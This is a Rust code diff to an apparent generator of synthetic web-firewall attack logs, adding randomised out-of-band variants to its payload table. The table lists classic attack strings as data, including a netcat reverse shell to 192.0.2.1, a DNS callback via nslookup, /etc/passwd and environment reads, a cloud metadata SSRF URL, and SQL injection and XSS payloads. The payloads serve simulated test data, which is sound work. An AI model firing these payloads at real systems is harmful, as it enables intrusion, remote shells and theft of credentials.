@@ -25,11 +25,11 @@ const AGENTS: [&str; 4] = ["Mozilla/5.0", "curl/8.0", "sqlmap/1.8", "python-requ
 /// What an origin answers attacks with.
 const STATUSES: [u16; 6] = [200, 200, 302, 400, 404, 500];
 
-/// Type, severity, where the payload sits, and payloads.
+/// Type, severity, where the payload sits, and payloads. Some tools never send the same twice: `#` is a number of their own.
 type Kind = (&'static str, &'static str, &'static str, [&'static str; 3]);
 
 const KINDS: [Kind; 7] = [
-    ("sqli", "high", "id", ["1' or '1'='1", "1 union select null,version()", "1;select pg_sleep(5)"]),
+    ("sqli", "high", "id", ["1' or '1'='1", "1 union select null,version()", "1' and #=# -- "]),
     (
         "xss",
         "high",
@@ -37,12 +37,17 @@ const KINDS: [Kind; 7] = [
         ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)"],
     ),
     ("ptrav", "high", "file", ["../../../../etc/passwd", "..\\..\\boot.ini", "/proc/self/environ"]),
-    ("rce", "critical", "cmd", [";cat /etc/passwd", "$(id)", "|nc 192.0.2.1 4444 -e /bin/sh"]),
+    (
+        "rce",
+        "critical",
+        "cmd",
+        [";cat /etc/passwd", ";nslookup #.example.net", "|nc 192.0.2.1 4444 -e /bin/sh"],
+    ),
     (
         "ssrf",
         "medium",
         "url",
-        ["http://169.254.169.254/latest/meta-data/", "file:///etc/hosts", "gopher://127.0.0.1"],
+        ["http://169.254.169.254/latest/meta-data/", "file:///etc/hosts", "http://#.example.net/"],
     ),
     ("nosqli", "high", "user", ["{\"$ne\":null}", "{\"$gt\":\"\"}", "';return true;//"]),
     ("scanner", "low", "probe", ["nikto", "nuclei", "acunetix"]),
@@ -172,7 +177,7 @@ impl Attacks {
             is_blocked,
             at,
         } = self.attack;
-        let payload = self.dice.pick(payloads);
+        let payload = self.dice.pick(payloads).replace('#', &self.dice.below(1 << 32).to_string());
         let address = format!("198.{}.{}.{}", 18 + network % 2, network / 16 % 256, self.dice.below(4) + 1);
         let (outcome, mode, enforced) =
             if is_blocked { ("blocked", "block", "yes") } else { ("monitored", "monitoring", "no") };
